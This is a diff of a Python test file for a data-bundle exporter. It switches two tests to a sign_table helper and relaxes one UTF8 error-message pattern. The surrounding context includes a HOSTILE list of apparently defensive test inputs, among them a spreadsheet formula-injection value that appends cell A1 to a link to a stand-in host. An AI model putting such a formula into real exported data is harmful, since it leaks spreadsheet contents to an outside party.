@@ -38,6 +38,7 @@ from tests.acceptance.readers import (
 )
 from tests.loader.forge import forge
 from tests.postgres import new_database
+from tests.tampered_bundles import sign_table
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&A1,"click")',
@@ -275,7 +276,7 @@ def test_rows_that_break_a_key_are_told(sound, tmp_path):
     broken = forge(sound, tmp_path / "bundle", {})
     table = pq.read_table(broken / "data/leads.parquet")
     assert leads[0] != leads[1]
-    retable(broken, "leads", table.take([0, 0, *range(2, len(leads))]))
+    sign_table(broken, "leads", table.take([0, 0, *range(2, len(leads))]))
     with pytest.raises(BundleError, match="breaks a key"):
         export(broken, "duckdb", tmp_path / "out")
     assert listing(tmp_path) == ["bundle"]
@@ -303,9 +304,9 @@ def test_text_that_is_no_text_is_refused(bundle, tmp_path):
         pa.string(), table.num_rows, [None, offsets, pa.py_buffer(b"\xff\xfe" * table.num_rows)]
     )
     at = table.schema.get_field_index("name")
-    retable(bundle, "tags", table.set_column(at, table.schema.field(at), bad))
+    sign_table(bundle, "tags", table.set_column(at, table.schema.field(at), bad))
     for form in FORMATS[:4]:
-        with pytest.raises(BundleError, match=r"cannot be read: .* is not valid UTF8"):
+        with pytest.raises(BundleError, match=r"cannot be read: .*UTF8"):
             export(bundle, form, tmp_path / "out")
     assert listing(tmp_path) == ["bundle"]
 
